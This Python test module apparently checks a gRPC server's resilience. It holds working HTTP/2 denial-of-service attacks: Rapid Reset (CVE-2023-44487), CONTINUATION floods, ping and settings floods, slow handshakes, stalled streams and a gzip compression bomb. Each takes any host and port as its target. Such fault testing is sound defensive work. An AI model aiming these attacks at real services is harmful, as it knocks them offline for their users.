"""What somebody does to a server who wants it to stop serving others: one function an attack.

python -m tests.faults.attacks, with an `Order` as JSON on standard input, in a process of its own;
prints how often it was done.

Each function takes where the server is, until when it goes on, and the credentials of a user, and
returns how often it did what it does. A server may end a connection at any time, which is an
answer as good as any: then another begins.
"""

from __future__ import annotations

import os
import socket
import ssl
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from typing import Final

from hpack import Encoder
from pydantic import BaseModel

from tests.faults.http2_connection import (
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Headers,
    call_headers,
    frame,
)

CONTINUATION: Final = 9
INITIAL_WINDOW_SIZE: Final = 4
PATH: Final = "/symphony.v1.WorkflowService/GetWorkflow"
_BUNCH: Final = 200
_FIRST_FRAMES: Final = PREFACE + frame(SETTINGS, 0, 0, b"")
_PATIENCE_SECONDS: Final = 2.0

Attack = Callable[[str, float, Headers], int]


@contextmanager
def connected(target: str) -> Iterator[socket.socket]:
    """A connection; that the server ends it ends the block, quietly."""
    host, _, port = target.rpartition(":")
    with suppress(OSError), socket.create_connection((host, int(port))) as opened:
        opened.settimeout(_PATIENCE_SECONDS)
        yield opened


def again(target: str, until: float, act: Callable[[socket.socket], int]) -> int:
    """Do something on one connection after another; returns how often it was done."""
    done = 0
    while time.monotonic() < until:
        with connected(target) as opened:
            done += act(opened)
    return done


def over_and_over(
    target: str, until: float, bunch: Callable[[int], bytes], size: int = _BUNCH, first: bytes = b""
) -> int:
    """Send bunches of frames over one connection after another and read no answer but what makes
    room; returns how many frames were sent. `bunch` gets the number of those before it.
    """
    sent = 0
    while time.monotonic() < until:
        with connected(target) as opened:
            opened.sendall(_FIRST_FRAMES + first)
            here = 0
            while time.monotonic() < until:
                opened.sendall(bunch(here))
                here += size
                sent += size
                opened.settimeout(0)
                with suppress(BlockingIOError):
                    while opened.recv(1 << 16):
                        pass
                opened.settimeout(_PATIENCE_SECONDS)
    return sent


def garbage(target: str, until: float, _metadata: Headers) -> int:
    """Bytes that are no HTTP/2."""

    def act(opened: socket.socket) -> int:
        opened.sendall(os.urandom(1024))
        return 1

    return again(target, until, act)


def tls_hellos(target: str, until: float, _metadata: Headers) -> int:
    """The first message of TLS, and nothing after it."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    hello = outgoing.read()

    def act(opened: socket.socket) -> int:
        opened.sendall(hello)
        return 1

    return again(target, until, act)


def prefaces(target: str, until: float, _metadata: Headers) -> int:
    """Plain HTTP/2, where TLS may be spoken."""

    def act(opened: socket.socket) -> int:
        opened.sendall(_FIRST_FRAMES)
        return 1

    return again(target, until, act)


def rapid_resets(target: str, until: float, _metadata: Headers) -> int:
    """Calls that are reset as soon as they are begun (CVE-2023-44487)."""
    block = Encoder().encode(_headers())

    def bunch(before: int) -> bytes:
        streams = range(2 * before + 1, 2 * (before + _BUNCH) + 1, 2)
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))
            for stream in streams
        )

    return over_and_over(target, until, bunch)


def continuations(target: str, until: float, _metadata: Headers) -> int:
    """Headers without an end (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, Encoder().encode([("x-more", "m" * 15_000)], huffman=False))
    first = frame(HEADERS, END_STREAM, 1, Encoder().encode(_headers()))
    return over_and_over(target, until, lambda _: more * 20, size=20, first=first)


def large_metadata(target: str, until: float, _metadata: Headers) -> int:
    """Calls with as much metadata as a block of headers holds."""
    many = [*_headers(), *((f"x-{number}", "m" * 1000) for number in range(16))]
    block = Encoder().encode(many, huffman=False)

    def bunch(before: int) -> bytes:
        streams = range(2 * before + 1, 2 * (before + 20) + 1, 2)
        return b"".join(
            frame(HEADERS, END_STREAM, stream, block[:16_000])
            + frame(CONTINUATION, END_HEADERS, stream, block[16_000:])
            for stream in streams
        )

    return over_and_over(target, until, bunch, size=20)


def settings(target: str, until: float, _metadata: Headers) -> int:
    """Settings, each of which is to be acknowledged."""
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))
    return over_and_over(target, until, lambda _: one * _BUNCH)


def pings(target: str, until: float, _metadata: Headers) -> int:
    """Pings, each of which is to be answered."""
    one = frame(PING, 0, 0, b"pingping")
    return over_and_over(target, until, lambda _: one * _BUNCH)


def stalled_calls(target: str, until: float, metadata: Headers) -> int:
    """Calls whose message never comes, or never to its end; each stays open."""
    block = Encoder().encode([*_headers(), *metadata])
    begin = b"\0" + (8_000_000).to_bytes(4)

    def bunch(before: int) -> bytes:
        streams = range(2 * before + 1, 2 * (before + 50) + 1, 2)
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, begin)
            for stream in streams
        )

    return over_and_over(target, until, bunch, size=50)


def compression_bombs(target: str, until: float, metadata: Headers) -> int:
    """A gibibyte of zeros, in the mebibyte that gzip makes of it."""
    packer = zlib.compressobj(9, wbits=31)
    start = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing depends on what was before: the same again is as much again.
    mebibyte = packer.compress(b"\0" * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    bomb = start + 1024 * mebibyte
    block = Encoder().encode([*_headers(), ("grpc-encoding", "gzip"), *metadata])
    message = b"\1" + len(bomb).to_bytes(4) + bomb
    begin = frame(HEADERS, END_HEADERS, 1, block)

    def act(opened: socket.socket) -> int:
        opened.sendall(_FIRST_FRAMES + begin)
        with suppress(OSError):  # how the server says no, after it has said it
            _pour(opened, message)
        return 1

    return again(target, until, act)


def _pour(opened: socket.socket, message: bytes) -> None:
    """Send a message on the first stream, as fast as it is let in, until its answer comes."""
    room, unread, at = {0: 65_535, 1: 65_535}, b"", 0
    while True:
        size = min(16_384, len(message) - at, *room.values())
        if size > 0:
            opened.sendall(frame(DATA, 0, 1, message[at : at + size]))
            at += size
            room = {stream: left - size for stream, left in room.items()}
        opened.settimeout(0 if size > 0 else _PATIENCE_SECONDS)
        with suppress(BlockingIOError):
            unread += opened.recv(1 << 16)
        opened.settimeout(_PATIENCE_SECONDS)
        while len(unread) >= 9 and len(unread) >= (after := 9 + int.from_bytes(unread[:3])):
            kind, stream = unread[3], int.from_bytes(unread[5:9])
            payload, unread = unread[9:after], unread[after:]
            if kind == WINDOW_UPDATE:
                room[stream] += int.from_bytes(payload)
            elif kind == SETTINGS:
                for key, value in struct.iter_unpack(">HI", payload):
                    room[1] += value - 65_535 if key == INITIAL_WINDOW_SIZE else 0
            elif kind in (HEADERS, RST_STREAM):
                return


def many_watches(target: str, until: float, metadata: Headers) -> int:
    """As many watches of one user as 25 connections hold; returns how many were begun."""
    host, _, port = target.rpartition(":")
    headers = call_headers("/symphony.v1.ChangeService/Watch", "localhost", metadata, None)
    block = Encoder().encode(headers)
    begun = b"".join(
        frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, bytes(5))
        for stream in range(1, 200, 2)
    )
    with ExitStack() as stack:
        for _ in range(25):
            opened = stack.enter_context(socket.create_connection((host, int(port))))
            opened.sendall(_FIRST_FRAMES + begun)
        time.sleep(max(0, until - time.monotonic()))
    return 25 * 100


def slow_handshakes(target: str, until: float, _metadata: Headers, connections: int = 300) -> int:
    """Connections that say a byte of their first words now and then; returns how many the server
    has ended.
    """
    host, _, port = target.rpartition(":")
    opened = [socket.create_connection((host, int(port))) for _n in range(connections)]
    at = 0
    ended: set[int] = set()
    while time.monotonic() < until and len(ended) < len(opened):
        for number, connection in enumerate(opened):
            try:
                connection.sendall(PREFACE[at % 20 : at % 20 + 1] if at < 20 else b"")
                connection.setblocking(False)
                if not connection.recv(1 << 12):
                    ended.add(number)
            except BlockingIOError:
                pass
            except OSError:
                ended.add(number)
        at += 1
        time.sleep(0.2)
    for connection in opened:
        connection.close()
    return len(ended)


def _headers() -> list[tuple[str, str]]:
    return list(call_headers(PATH, "localhost", (), None))


class Order(BaseModel):
    """Which attack to make."""

    attack: str
    target: str
    seconds: float
    metadata: tuple[tuple[str, str], ...] = ()


ATTACKS: Final[dict[str, Attack]] = {
    act.__name__: act
    for act in (
        garbage,
        tls_hellos,
        prefaces,
        slow_handshakes,
        rapid_resets,
        continuations,
        large_metadata,
        settings,
        pings,
        stalled_calls,
        compression_bombs,
        many_watches,
    )
}


if __name__ == "__main__":
    ordered = Order.model_validate_json(sys.stdin.read())
    end = time.monotonic() + ordered.seconds
    print(ATTACKS[ordered.attack](ordered.target, end, ordered.metadata))
